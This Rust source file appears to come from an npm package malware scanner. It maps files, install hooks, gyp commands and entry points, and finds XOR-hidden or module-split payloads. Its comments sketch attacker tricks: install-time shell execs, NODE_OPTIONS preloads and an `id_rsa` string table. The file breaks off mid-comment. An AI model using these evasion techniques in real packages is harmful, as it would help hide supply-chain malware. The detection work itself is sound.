//! The package being scanned, as the rules see it: its files (each with text, kind, and JS facts
//! where it parsed), its manifest and lifecycle scripts, and which files run at install time or
//! on `require`.

use crate::js::{self, JsFacts, Parsed};
use crate::model::Limits;
use crate::unpack::ArchiveIssue;
use std::collections::{BTreeMap, HashSet, VecDeque};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    Js,
    Json,
    /// Shell, batch and PowerShell scripts, and lifecycle script commands.
    Shell,
    Markdown,
    Image,
    Binary,
    Text,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseState {
    NotJs,
    Parsed,
    Unparseable(String),
    /// Too big or too deeply nested to parse: text rules only.
    Skipped(String),
}

/// One file (or one lifecycle script command, a virtual file named `package.json`).
#[derive(Debug)]
pub struct FileCtx {
    pub path: String,
    /// The bytes when they are not valid UTF-8 (else `text` holds them, without a second copy).
    raw: Option<Vec<u8>>,
    /// The content as text (invalid UTF-8 replaced by U+FFFD).
    pub text: String,
    pub kind: FileKind,
    pub parse: ParseState,
    pub js: Option<JsFacts>,
    /// For lifecycle scripts: the script name (`postinstall`) and the line in package.json.
    pub script: Option<(String, u32)>,
    line_starts: Vec<u32>,
    pub minified: bool,
    all: std::sync::OnceLock<String>,
    /// `all_text` case-folded for the regexes' literal gates (see `rules::gate::fold`).
    lower: std::sync::OnceLock<String>,
}

impl FileCtx {
    pub fn new(path: String, bytes: Vec<u8>, limits: &Limits) -> Self {
        let kind = kind_of(&path, &bytes);
        // Valid UTF-8 (nearly every file) becomes the text in place; only other bytes are kept
        // twice, raw and with replacement characters.
        let (text, raw) = match String::from_utf8(bytes) {
            Ok(text) => (text, None),
            Err(e) => {
                let bytes = e.into_bytes();
                (String::from_utf8_lossy(&bytes).into_owned(), Some(bytes))
            }
        };
        let mut f = FileCtx {
            path,
            raw,
            text,
            kind,
            parse: ParseState::NotJs,
            js: None,
            script: None,
            line_starts: Vec::new(),
            minified: false,
            all: std::sync::OnceLock::new(),
            lower: std::sync::OnceLock::new(),
        };
        f.index_lines();
        if kind == FileKind::Js {
            f.analyze(limits);
        }
        f
    }

    /// A lifecycle script command, scanned as a shell file.
    pub fn script(name: &str, command: &str, line: u32) -> Self {
        let mut f = FileCtx {
            path: "package.json".into(),
            raw: None,
            text: command.to_string(),
            kind: FileKind::Shell,
            parse: ParseState::NotJs,
            js: None,
            script: Some((name.to_string(), line)),
            line_starts: vec![0],
            minified: false,
            all: std::sync::OnceLock::new(),
            lower: std::sync::OnceLock::new(),
        };
        f.index_lines();
        f
    }

    /// Inline code of `node -e "…"` in a lifecycle script, analysed as JavaScript.
    pub fn inline_code(name: &str, code: &str, line: u32, limits: &Limits) -> Self {
        let mut f = Self::script(name, code, line);
        f.kind = FileKind::Js;
        f.analyze(limits);
        f
    }

    fn index_lines(&mut self) {
        self.line_starts = std::iter::once(0)
            .chain(memchr::memchr_iter(b'\n', self.text.as_bytes()).map(|i| i as u32 + 1))
            .collect();
        let lines = self.line_starts.len().max(1);
        let longest = self
            .line_starts
            .windows(2)
            .map(|w| w[1] - w[0])
            .max()
            .unwrap_or(self.text.len() as u32);
        self.minified = self.kind == FileKind::Js
            && self.text.len() > 2048
            && (self.text.len() / lines > 300 || longest > 5000 && lines < 20);
    }

    fn analyze(&mut self, limits: &Limits) {
        if self.text.len() > limits.max_parse_size {
            self.parse = ParseState::Skipped(format!(
                "{} bytes is above the {}-byte parse limit; text rules only",
                self.text.len(),
                limits.max_parse_size
            ));
            return;
        }
        let depth = nesting_depth(self.text.as_bytes());
        if depth > limits.max_nesting {
            self.parse = ParseState::Unparseable(format!(
                "brackets nest {depth} deep (limit {}); text rules only",
                limits.max_nesting
            ));
            return;
        }
        let src = strip_hashbang(&self.text);
        match js::analyze(
            src,
            &self.path,
            limits.max_decode_depth,
            limits.max_parse_size,
        ) {
            Parsed::Ok(f) => {
                self.parse = ParseState::Parsed;
                self.js = Some(f);
            }
            Parsed::Failed(msg, f) => {
                self.parse = ParseState::Unparseable(msg);
                self.js = Some(f);
            }
        }
    }

    /// The file's bytes as they are in the archive.
    pub fn bytes(&self) -> &[u8] {
        self.raw.as_deref().unwrap_or(self.text.as_bytes())
    }

    /// The text plus every string the code derives at run time (folded, decoded), built once.
    pub fn all_text(&self) -> &str {
        match &self.js {
            Some(js) if !js.derived.is_empty() => self.all.get_or_init(|| {
                let mut s = String::with_capacity(
                    self.text.len() + js.derived.iter().map(|(d, _)| d.len() + 1).sum::<usize>(),
                );
                s.push_str(&self.text);
                for (d, _) in &js.derived {
                    s.push('\n');
                    s.push_str(d);
                }
                s
            }),
            _ => &self.text,
        }
    }

    /// An offset found in [`FileCtx::all_text`] as a place in the file: `at` when it lies in
    /// the file's own text, else (a string decoded from it) `fallback`.
    pub fn text_off(&self, at: usize, fallback: u32) -> u32 {
        if at < self.text.len() {
            at as u32
        } else {
            fallback
        }
    }

    /// [`FileCtx::all_text`] case-folded for the regexes' literal gates, built once.
    pub fn all_text_lower(&self) -> &str {
        self.lower
            .get_or_init(|| crate::rules::gate::fold(self.all_text()))
    }

    /// 1-based line and column (in characters) of a byte offset.
    pub fn line_col(&self, off: u32) -> (u32, u32) {
        if let Some((_, line)) = &self.script {
            return (*line, 0);
        }
        let idx = match self.line_starts.binary_search(&off) {
            Ok(i) => i,
            Err(i) => i.saturating_sub(1),
        };
        let start = self.line_starts.get(idx).copied().unwrap_or(0) as usize;
        let end = (off as usize).min(self.text.len());
        let col = self
            .text
            .get(start..end)
            .map(|s| s.chars().count())
            .unwrap_or(end.saturating_sub(start));
        (idx as u32 + 1, col as u32 + 1)
    }

    /// Lines as editors count them (a final newline does not start another line).
    pub fn lines(&self) -> u32 {
        let n = self.line_starts.len() as u32;
        if self.text.is_empty() {
            0
        } else if self.text.ends_with('\n') {
            n - 1
        } else {
            n
        }
    }

    /// An excerpt of at most 120 characters around a byte offset, on one line.
    pub fn excerpt(&self, off: u32, len: usize) -> String {
        let t = &self.text;
        let mut s = (off as usize).min(t.len());
        while s > 0 && !t.is_char_boundary(s) {
            s -= 1;
        }
        let mut e = (s + len.clamp(1, 120)).min(t.len());
        while e < t.len() && !t.is_char_boundary(e) {
            e += 1;
        }
        one_line(&t[s..e])
    }

    pub fn is_js(&self) -> bool {
        self.kind == FileKind::Js
    }
}

pub fn one_line(s: &str) -> String {
    let s: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(160)
        .collect();
    s.trim().to_string()
}

fn strip_hashbang(s: &str) -> &str {
    // oxc understands hashbangs; this keeps offsets identical while tolerating BOMs.
    s
}

/// Maximum bracket nesting, skipping string contents roughly; cheap and conservative.
pub fn nesting_depth(b: &[u8]) -> usize {
    /// The bytes that change the state (quotes, brackets, escapes, line feeds); the loop skips
    /// every other byte in a tight inner loop.
    const SPECIAL: [bool; 256] = {
        let mut t = [false; 256];
        let special = b"\"'`([{)]}\\\n";
        let mut i = 0;
        while i < special.len() {
            t[special[i] as usize] = true;
            i += 1;
        }
        t
    };
    let mut depth: usize = 0;
    let mut max = 0;
    let mut quote: u8 = 0;
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && !SPECIAL[b[i] as usize] {
            i += 1;
        }
        let Some(&c) = b.get(i) else { break };
        if quote != 0 {
            if c == b'\\' {
                i += 2;
                continue;
            }
            if c == quote || (c == b'\n' && quote != b'`') {
                quote = 0;
            }
        } else {
            match c {
                b'"' | b'\'' | b'`' => quote = c,
                b'(' | b'[' | b'{' => {
                    depth += 1;
                    max = max.max(depth);
                }
                b')' | b']' | b'}' => depth = depth.saturating_sub(1),
                _ => {}
            }
        }
        i += 1;
    }
    max
}

pub fn kind_of(path: &str, bytes: &[u8]) -> FileKind {
    let lower = path.to_ascii_lowercase();
    let ext = lower.rsplit('.').next().unwrap_or("");
    if is_native(bytes) {
        return FileKind::Binary;
    }
    match ext {
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx" => {
            if lower.ends_with(".d.ts") || lower.ends_with(".d.mts") || lower.ends_with(".d.cts") {
                FileKind::Text
            } else {
                FileKind::Js
            }
        }
        "json" => FileKind::Json,
        "sh" | "bash" | "bat" | "cmd" | "ps1" | "psm1" | "zsh" => FileKind::Shell,
        "md" | "markdown" | "txt" | "rst" => FileKind::Markdown,
        "png" | "jpg" | "jpeg" | "gif" | "ico" | "webp" | "bmp" | "svg" | "woff" | "woff2"
        | "ttf" | "eot" => {
            if ext == "svg" {
                FileKind::Text
            } else {
                FileKind::Image
            }
        }
        "node" | "exe" | "dll" | "so" | "dylib" | "wasm" | "bin" => FileKind::Binary,
        _ => {
            if bytes.iter().take(8192).any(|b| *b == 0) {
                FileKind::Binary
            } else if bytes.starts_with(b"#!")
                && (bytes.starts_with(b"#!/usr/bin/env node")
                    || bytes.starts_with(b"#!/usr/bin/node"))
            {
                FileKind::Js
            } else if bytes.starts_with(b"#!") {
                FileKind::Shell
            } else {
                FileKind::Text
            }
        }
    }
}

/// ELF, PE, Mach-O (all variants), XCOFF or WebAssembly magic.
pub fn native_format(b: &[u8]) -> Option<&'static str> {
    if b.starts_with(b"\x7fELF") {
        Some("ELF")
    } else if b.starts_with(b"MZ") && b.len() > 64 {
        Some("PE")
    } else if b.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
        || b.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
        || b.starts_with(&[0xca, 0xfe, 0xba, 0xbe])
        || b.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
    {
        Some("Mach-O")
    } else if b.starts_with(&[0x01, 0xdf]) || b.starts_with(&[0x01, 0xf7]) {
        // AIX executables (32- and 64-bit XCOFF): @esbuild/aix-ppc64 ships one
        Some("XCOFF")
    } else if b.starts_with(b"\0asm") {
        Some("WebAssembly")
    } else {
        None
    }
}

fn is_native(b: &[u8]) -> bool {
    native_format(b).is_some()
}

/// The package as rules see it.
#[derive(Debug)]
pub struct Package<'o> {
    pub files: Vec<FileCtx>,
    /// package.json from the archive, parsed.
    pub manifest: Option<serde_json::Value>,
    pub registry_manifest: Option<&'o serde_json::Value>,
    /// Lifecycle scripts that run on install: (name, command).
    pub install_scripts: Vec<(String, String)>,
    /// Files run (directly or through relative requires) by install scripts.
    pub install_files: HashSet<String>,
    /// Files loaded by `require(package)` (main/exports/index, transitively).
    pub entry_files: HashSet<String>,
    /// Files declared in `bin`.
    pub bin_files: HashSet<String>,
    pub archive_issues: Vec<ArchiveIssue>,
    pub total_bytes: u64,
}

/// Lifecycle scripts npm runs when the package is installed from the registry. `prepare` (with
/// its `preprepare`/`postprepare`) runs for git and local installs only, so it is listed but
/// weighed lower by the rules.
pub const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preprepare",
    "prepare",
    "postprepare",
];

/// Hooks that run for git and local installs only (see [`INSTALL_HOOKS`]).
pub fn local_install_hook(name: &str) -> bool {
    matches!(name, "preprepare" | "prepare" | "postprepare")
}

impl<'o> Package<'o> {
    pub fn build(
        raw: Vec<(String, Vec<u8>)>,
        issues: Vec<ArchiveIssue>,
        registry_manifest: Option<&'o serde_json::Value>,
        limits: &Limits,
    ) -> Self {
        let total_bytes = raw.iter().map(|(_, b)| b.len() as u64).sum();
        let manifest = raw
            .iter()
            .rev()
            .find(|(p, _)| p == "package.json")
            .and_then(|(_, b)| serde_json::from_slice::<serde_json::Value>(b).ok());
        let mut files: Vec<FileCtx> = raw
            .into_iter()
            .map(|(p, b)| FileCtx::new(p, b, limits))
            .collect();
        let mut install_scripts = Vec::new();
        let pj_text = files
            .iter()
            .find(|f| f.path == "package.json")
            .map(|f| f.text.clone())
            .unwrap_or_default();
        if let Some(scripts) = manifest
            .as_ref()
            .and_then(|m| m.get("scripts"))
            .and_then(|s| s.as_object())
        {
            for hook in INSTALL_HOOKS {
                if let Some(cmd) = scripts.get(*hook).and_then(|c| c.as_str()) {
                    install_scripts.push((hook.to_string(), cmd.to_string()));
                }
            }
        }
        let has_gyp = files.iter().any(|f| f.path == "binding.gyp");
        if has_gyp
            && !install_scripts
                .iter()
                .any(|(k, _)| k == "install" || k == "preinstall")
        {
            install_scripts.push(("install".into(), "node-gyp rebuild".into()));
        }
        let mut install_roots = Vec::new();
        for (name, cmd) in &install_scripts {
            let line = line_of_key(&pj_text, name);
            files.push(FileCtx::script(name, cmd, line));
            for code in inline_node_code(cmd) {
                files.push(FileCtx::inline_code(name, &code, line, limits));
            }
            for target in script_targets(cmd) {
                install_roots.push(target);
            }
            for decoded in shell_decoded(cmd) {
                files.push(FileCtx::script(name, &decoded, line));
            }
        }
        // node-gyp runs the `<!(…)` / `<!@(…)` command expansions of binding.gyp while it loads
        // the file, i.e. during the install build.
        if let Some(gyp) = files.iter().find(|f| f.path == "binding.gyp") {
            // Command expansions, then the build actions gyp runs while it builds.
            let mut cmds = gyp_commands(&gyp.text);
            cmds.extend(gyp_actions(&gyp.text));
            for (cmd, line) in cmds {
                let mut f = FileCtx::script("binding.gyp", &cmd, line);
                f.path = "binding.gyp".into();
                files.push(f);
                for code in inline_node_code(&cmd) {
                    let mut f = FileCtx::inline_code("binding.gyp", &code, line, limits);
                    f.path = "binding.gyp".into();
                    files.push(f);
                }
                install_roots.extend(script_targets(&cmd));
                for decoded in shell_decoded(&cmd) {
                    let mut f = FileCtx::script("binding.gyp", &decoded, line);
                    f.path = "binding.gyp".into();
                    files.push(f);
                }
            }
        }
        link_exports(&mut files, limits);
        let decrypted = xor_decrypted(&files, limits);
        // Package-manager settings shipped in the folder that start code with every npm or yarn
        // command run there: `.npmrc` `node-options=--require X`, `.yarnrc.yml` `yarnPath: X`.
        install_roots.extend(config_preloads(&files));
        let bin_files: HashSet<String> = match manifest.as_ref().and_then(|m| m.get("bin")) {
            Some(serde_json::Value::String(s)) => [clean(s)].into_iter().collect(),
            Some(serde_json::Value::Object(o)) => {
                o.values().filter_map(|v| v.as_str()).map(clean).collect()
            }
            _ => HashSet::new(),
        };
        let mut entry_roots = vec![];
        if let Some(m) = manifest.as_ref() {
            // What bundlers and Metro load in place of `main` (a string, or for `browser` and
            // `react-native` also a map of replaced files).
            for key in [
                "main",
                "module",
                "browser",
                "react-native",
                "unpkg",
                "jsdelivr",
            ] {
                match m.get(key) {
                    Some(serde_json::Value::String(s)) => entry_roots.push(clean(s)),
                    Some(serde_json::Value::Object(o)) => {
                        entry_roots.extend(o.values().filter_map(|v| v.as_str()).map(clean))
                    }
                    _ => {}
                }
            }
            collect_export_targets(m.get("exports"), &mut entry_roots);
        }
        entry_roots.push("index.js".into());
        let paths: HashSet<String> = files
            .iter()
            .filter(|f| f.script.is_none())
            .map(|f| f.path.clone())
            .collect();
        let mut pkg = Package {
            install_files: HashSet::new(),
            entry_files: HashSet::new(),
            files,
            manifest,
            registry_manifest,
            install_scripts,
            bin_files,
            archive_issues: issues,
            total_bytes,
        };
        pkg.install_files = pkg.reach(&install_roots, &paths);
        // Inline `node -e` code can require files too.
        let inline_reqs: Vec<String> = pkg
            .files
            .iter()
            .filter(|f| f.script.is_some() && f.is_js())
            .filter_map(|f| f.js.as_ref())
            .flat_map(|j| {
                j.modules
                    .iter()
                    .filter(|(m, _)| m.starts_with('.'))
                    .map(|(m, _)| clean(m))
            })
            .collect();
        let more = pkg.reach(&inline_reqs, &paths);
        pkg.install_files.extend(more);
        // Shell, batch and PowerShell files (and other scripts) that install code names are run
        // by it: `exec('/bin/bash preinstall.sh')`, `spawn('cmd.exe', ['/c', 'x.bat'])`.
        let install_now: Vec<&FileCtx> = pkg
            .files
            .iter()
            .filter(|i| pkg.is_install_file(i))
            .collect();
        let named: Vec<String> = pkg
            .files
            .iter()
            .filter(|f| {
                f.script.is_none()
                    && matches!(f.kind, FileKind::Shell | FileKind::Js)
                    && !pkg.install_files.contains(&f.path)
            })
            .filter(|f| {
                let base = f.path.rsplit('/').next().unwrap_or(&f.path);
                base.len() > 3
                    && install_now.iter().any(|i| {
                        i.text.contains(base)
                            || i.js
                                .as_ref()
                                .is_some_and(|j| j.derived.iter().any(|(d, _)| d.contains(base)))
                    })
            })
            .map(|f| f.path.clone())
            .collect();
        pkg.install_files.extend(named);
        pkg.entry_files = pkg.reach(&entry_roots, &paths);
        // A file that loaded code adds to NODE_OPTIONS as a preload (`--require x.cjs`,
        // `--import`) runs in every Node process started after it: it is loaded code too.
        let preloaded = pkg.preloaded_files();
        let more = pkg.reach(&preloaded, &paths);
        pkg.entry_files.extend(more);
        // Code decrypted out of a data file runs where its decryptor runs.
        for (f, by) in decrypted {
            if pkg.install_files.contains(&by) {
                pkg.install_files.insert(f.path.clone());
            }
            if pkg.entry_files.contains(&by) {
                pkg.entry_files.insert(f.path.clone());
            }
            pkg.files.push(f);
        }
        pkg
    }

    /// Files of the package that entry code names beside a Node preload option it puts into
    /// `NODE_OPTIONS` (`--require`, `-r`, `--import`, `--loader`).
    fn preloaded_files(&self) -> Vec<String> {
        let preload = crate::regex!(
            r"--require\b|--import\b|(?:^|[\s'\x22`])-r\s|--(?:experimental-)?loader\b"
        );
        let setters: Vec<&FileCtx> = self
            .files
            .iter()
            .filter(|f| {
                self.entry_files.contains(&f.path)
                    && f.text.contains("NODE_OPTIONS")
                    && preload.is_match(&f.text)
            })
            .collect();
        if setters.is_empty() {
            return Vec::new();
        }
        self.files
            .iter()
            .filter(|f| f.script.is_none() && f.kind == FileKind::Js)
            .filter(|f| !self.entry_files.contains(&f.path))
            .filter(|f| {
                let base = f.path.rsplit('/').next().unwrap_or(&f.path);
                base.len() > 3 && setters.iter().any(|s| s.text.contains(base))
            })
            .map(|f| f.path.clone())
            .collect()
    }

    /// Files the package's `bin` commands run: the declared bins and what they require
    /// (relative modules, transitively). Computed on request; few rules need it.
    pub fn bin_reach(&self) -> HashSet<String> {
        let paths: HashSet<String> = self
            .files
            .iter()
            .filter(|f| f.script.is_none())
            .map(|f| f.path.clone())
            .collect();
        let roots: Vec<String> = self.bin_files.iter().cloned().collect();
        self.reach(&roots, &paths)
    }

    fn reach(&self, roots: &[String], paths: &HashSet<String>) -> HashSet<String> {
        let index: std::collections::HashMap<&str, usize> = self
            .files
            .iter()
            .enumerate()
            .filter(|(_, f)| f.script.is_none())
            .map(|(i, f)| (f.path.as_str(), i))
            .collect();
        let mut seen = HashSet::new();
        let mut queue: VecDeque<String> = roots.iter().filter_map(|r| resolve(r, paths)).collect();
        while let Some(p) = queue.pop_front() {
            if !seen.insert(p.clone()) {
                continue;
            }
            let Some(f) = index.get(p.as_str()).map(|i| &self.files[*i]) else {
                continue;
            };
            let Some(js) = &f.js else { continue };
            let dir = p.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
            for (m, _) in &js.modules {
                if m.starts_with("./") || m.starts_with("../") || m == "." || m == ".." {
                    let joined = normalize(&format!("{dir}/{m}"));
                    if let Some(r) = resolve(&joined, paths) {
                        queue.push_back(r);
                    }
                }
            }
        }
        seen
    }

    pub fn name(&self) -> Option<&str> {
        self.manifest.as_ref()?.get("name")?.as_str()
    }

    pub fn version(&self) -> Option<&str> {
        self.manifest.as_ref()?.get("version")?.as_str()
    }

    pub fn is_install_file(&self, f: &FileCtx) -> bool {
        match &f.script {
            Some((name, _)) => !local_install_hook(name),
            None => self.install_files.contains(&f.path),
        }
    }

    /// Whether the code at `off` runs as soon as the package is loaded: top-level code (or an
    /// IIFE or callback there) of a file `require(package)` loads, the import-time counterpart
    /// of [`Package::is_install_file`].
    pub fn runs_on_load(&self, f: &FileCtx, off: u32) -> bool {
        self.is_entry_file(f) && f.js.as_ref().is_some_and(|j| j.scope_of(off).is_none())
    }

    pub fn is_entry_file(&self, f: &FileCtx) -> bool {
        self.entry_files.contains(&f.path)
    }

    /// Files that look like command-line tools or build tooling rather than library code.
    pub fn is_tool_file(&self, f: &FileCtx) -> bool {
        let p = f.path.as_str();
        self.bin_files.contains(p)
            || p.starts_with("bin/")
            || p.contains("/bin/")
            || p.starts_with("scripts/")
            || p.contains("/cli")
            || p.starts_with("cli")
    }

    /// JavaScript bytes in the package (real files only).
    pub fn js_bytes(&self) -> usize {
        self.files
            .iter()
            .filter(|f| f.is_js() && f.script.is_none())
            .map(|f| f.text.len())
            .sum()
    }

    pub fn scripts(&self) -> BTreeMap<String, String> {
        self.install_scripts.iter().cloned().collect()
    }
}

/// Suffix of the virtual file holding code decrypted out of a data file of the package.
pub const DECRYPTED: &str = " (decrypted)";

/// Data files of the package that a repeating-key XOR loop in its code (`d[i] ^
/// k.charCodeAt(i % k.length)`, `b[i] ^ key[i % key.length]`, `x[i] ^ 0x5a`) turns into
/// code, with the key found as a string constant of that file: each becomes a virtual JavaScript
/// file `<data path> (decrypted)`, analysed like any other, paired with the decryptor's path.
/// Only data files the decryptor names (by base name or stem) are tried.
fn xor_decrypted(files: &[FileCtx], limits: &Limits) -> Vec<(FileCtx, String)> {
    let repeating = crate::regex!(
        r"\^\s*([\w$]+)(?:\.charCodeAt\(|\[)\s*[\w$]+\s*%\s*([\w$]+)\.length\s*[)\]]"
    );
    let single = crate::regex!(r"\]\s*\^\s*(0x[0-9a-fA-F]{1,2}|[1-9]\d{0,2})\b");
    let mut out = Vec::new();
    for f in files.iter().filter(|f| f.is_js() && f.script.is_none()) {
        if !f.text.contains('^') || f.text.len() > 256 * 1024 {
            continue;
        }
        let mut keys: Vec<Vec<u8>> = Vec::new();
        for c in repeating.captures_iter(&f.text).take(4) {
            let name = regex::escape(&c[1]);
            let decl = format!(
                r#"(?:const|let|var)\s+{name}\s*=\s*(?:'([^'\\]{{1,64}})'|"([^"\\]{{1,64}})")"#
            );
            if let Ok(re) = regex::Regex::new(&decl)
                && let Some(k) = re.captures(&f.text)
                && let Some(v) = k.get(1).or(k.get(2))
            {
                keys.push(v.as_str().as_bytes().to_vec());
            }
        }
        for c in single.captures_iter(&f.text).take(4) {
            let v = &c[1];
            let n = match v.strip_prefix("0x") {
                Some(h) => u8::from_str_radix(h, 16).ok(),
                None => v.parse::<u8>().ok(),
            };
            if let Some(n) = n.filter(|n| *n != 0) {
                keys.push(vec![n]);
            }
        }
        if keys.is_empty() {
            continue;
        }
        for d in files.iter().filter(|d| {
            d.script.is_none()
                && !d.is_js()
                && d.kind != FileKind::Image
                && d.bytes().len() >= 16
                && d.bytes().len() <= 1 << 20
        }) {
            let base = d.path.rsplit('/').next().unwrap_or(&d.path);
            let stem = base.split('.').next().unwrap_or(base);
            if !(f.text.contains(base) || stem.len() >= 3 && f.text.contains(&format!("\"{stem}")))
            {
                continue;
            }
            for k in &keys {
                let plain: Vec<u8> = d
                    .bytes()
                    .iter()
                    .enumerate()
                    .map(|(i, b)| b ^ k[i % k.len()])
                    .collect();
                let Some(text) = crate::decode::loose_text(&plain) else {
                    continue;
                };
                if !js::looks_like_code(&text) {
                    continue;
                }
                let mut v =
                    FileCtx::new(format!("{}{DECRYPTED}", d.path), text.into_bytes(), limits);
                v.kind = FileKind::Js;
                v.index_lines();
                v.analyze(limits);
                out.push((v, f.path.clone()));
                break;
            }
        }
    }
    out
}

/// Re-analyses files that read constant strings other files of the package export
/// (`require('./format')._p`), with those strings known, so a payload split across modules is
/// folded (and decoded) where it is put together. Only exports of 16+ characters, constant
/// arrays of strings (`exports.codes = ['ssh', 'id_rsa']`) and the items of an exported table
/// of strings at any length (`module.exports = ['…', …]`) make a file worth analysing again: one
/// that names such a key after a dot or as a whole word (`const { codes } = require(…)`), or an
/// item's index in brackets; the shorter strings of the same files ride along then (a `'bot'`
/// path piece).
fn link_exports(files: &mut [FileCtx], limits: &Limits) {
    let paths: HashSet<String> = files
        .iter()
        .filter(|f| f.script.is_none())
        .map(|f| f.path.clone())
        .collect();
    let exported: std::collections::HashMap<String, Vec<(String, String)>> = files
        .iter()
        .filter(|f| f.script.is_none())
        .filter_map(|f| {
            let js = f.js.as_ref()?;
            // Items of an exported table of strings count at any length: a loader indexes
            // such a table for the short names it hides (`t[d(n[3])]`).
            let long = js
                .exports
                .iter()
                .any(|(k, v)| v.len() >= 16 || k.ends_with("[]") || is_index(k) && !v.is_empty());
            long.then(|| (f.path.clone(), js.exports.clone()))
        })
        .collect();
    // The string leaves of the package's JSON files, for files whose XOR decoder takes its key
    // from one (`k = data[0].id + data[1].id`): the key kept apart from the ciphertext.
    let wants_json = files
        .iter()
        .any(|f| f.js.as_ref().is_some_and(|js| js.xor_key_missing));
    let json: std::collections::HashMap<String, Vec<(String, String)>> = if wants_json {
        files
            .iter()
            .filter(|f| {
                f.script.is_none() && f.path.ends_with(".json") && f.text.len() <= 256 * 1024
            })
            .filter_map(|f| {
                let v: serde_json::Value = serde_json::from_str(&f.text).ok()?;
                let mut out = Vec::new();
                json_leaves(&v, String::new(), 0, &mut out);
                (!out.is_empty()).then(|| (f.path.clone(), out))
            })
            .collect()
    } else {
        Default::default()
    };
    if exported.is_empty() && json.is_empty() {
        return;
    }
    for f in files.iter_mut() {
        if f.script.is_some() || f.minified || f.text.len() > 256 * 1024 {
            continue;
        }
        let Some(js) = &f.js else { continue };
        let key_missing = js.xor_key_missing;
        let dir = f.path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
        let mut imports = crate::js::HashMap::default();
        let mut worth = false;
        for (m, _) in &js.modules {
            if !m.starts_with('.') {
                continue;
            }
            let Some(target) = resolve(&format!("{dir}/{m}"), &paths) else {
                continue;
            };
            if target == f.path {
                continue;
            }
            for (k, v) in exported.get(&target).into_iter().flatten() {
                let name = k.strip_suffix("[]").unwrap_or(k);
                let named = if is_index(k) {
                    f.text.contains(&format!("[{k}]"))
                } else {
                    f.text.contains(&format!(".{name}")) || names_word(&f.text, name)
                };
                if named {
                    worth |= v.len() >= 16 || k.ends_with("[]") || is_index(k);
                    imports.insert(format!("{m}.{k}"), v.clone());
                }
            }
            if key_missing {
                for (k, v) in json.get(&target).into_iter().flatten() {
                    worth = true;
                    imports.insert(format!("{m}.{k}"), v.clone());
                }
            }
        }
        if !worth {
            continue;
        }
        let parsed = js::analyze_with_imports(
            &f.text,
            &f.path,
            limits.max_decode_depth,
            limits.max_parse_size,
            imports,
        );
        if let js::Parsed::Ok(facts) = parsed {
            f.js = Some(facts);
            f.all = std::sync::OnceLock::new();
            f.lower = std::sync::OnceLock::new();
        }
    }
}

/// The string values of a JSON document by member path (`0.constant`, `a.b`): at most 512,
/// four levels deep, 64 items per container.
fn json_leaves(v: &serde_json::Value, at: String, depth: usize, out: &mut Vec<(String, String)>) {
    if out.len() >= 512 || depth > 4 {
        return;
    }
    let join = |k: &str| {
        if at.is_empty() {
            k.to_string()
        } else {
            format!("{at}.{k}")
        }
    };
    match v {
        serde_json::Value::String(s) if !at.is_empty() && s.len() <= 4096 => {
            out.push((at, s.clone()))
        }
        serde_json::Value::Array(a) => {
            for (i, x) in a.iter().take(64).enumerate() {
                json_leaves(x, join(&i.to_string()), depth + 1, out);
            }
        }
        serde_json::Value::Object(o) => {
            for (k, x) in o.iter().take(64) {
                json_leaves(x, join(k), depth + 1, out);
            }
        }
        _ => {}
    }
}

/// Whether `text` holds `name` as a whole identifier (not inside a longer one).
fn names_word(text: &str, name: &str) -> bool {
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'$';
    let b = text.as_bytes();
    !name.is_empty()
        && memchr::memmem::find_iter(b, name.as_bytes())
            .take(256)
            .any(|at| {
                let end = at + name.len();
                (at == 0 || !ident(b[at - 1])) && (end >= b.len() || !ident(b[end]))
            })
}

/// An exported table item's key: its index.
fn is_index(k: &str) -> bool {
    !k.is_empty() && k.len() <= 3 && k.bytes().all(|b| b.is_ascii_digit())
}

fn collect_export_targets(v: Option<&serde_json::Value>, out: &mut Vec<String>) {
    match v {
        Some(serde_json::Value::String(s)) => out.push(clean(s)),
        Some(serde_json::Value::Object(o)) => {
            for v in o.values().take(64) {
                collect_export_targets(Some(v), out);
            }
        }
        Some(serde_json::Value::Array(a)) => {
            for v in a.iter().take(64) {
                collect_export_targets(Some(v), out);
            }
        }
        _ => {}
    }
}

pub fn clean(s: &str) -> String {
    normalize(s.trim_start_matches("./"))
}

fn normalize(p: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            c => parts.push(c),
        }
    }
    parts.join("/")
}

fn resolve(p: &str, paths: &HashSet<String>) -> Option<String> {
    let p = normalize(p);
    [
        p.clone(),
        format!("{p}.js"),
        format!("{p}.cjs"),
        format!("{p}.mjs"),
        format!("{p}.json"),
        format!("{p}/index.js"),
        format!("{p}/index.cjs"),
        format!("{p}/index.mjs"),
    ]
    .into_iter()
    .find(|c| paths.contains(c))
}

/// 1-based line of `"key"` in package.json text (1 when not found).
pub fn line_of_key(text: &str, key: &str) -> u32 {
    let needle = format!("\"{key}\"");
    text.find(&needle)
        .map(|i| text[..i].matches('\n').count() as u32 + 1)
        .unwrap_or(1)
}

/// Files a lifecycle command runs with node (`node install.js`, `node ./lib/build`).
pub fn script_targets(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for part in cmd.split(['&', '|', ';']) {
        let words: Vec<&str> = part.split_whitespace().collect();
        for (i, w) in words.iter().enumerate() {
            let w = w.trim_matches(['"', '\'']);
            let runner = matches!(w, "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node")
                || w.ends_with("/node");
            if runner {
                let mut rest = words[i + 1..].iter().map(|t| t.trim_matches(['"', '\'']));
                while let Some(t) = rest.next() {
                    match t {
                        "-e" | "--eval" | "-p" | "--print" => break,
                        "-r" | "--require" | "--import" | "--loader" => {
                            rest.next();
                        }
                        t if t.starts_with('-') => {}
                        t => {
                            out.push(clean(t));
                            break;
                        }
                    }
                }
            }
        }
    }
    out
}

/// The commands a shell command decodes for itself: base64 literals of a command that pipes
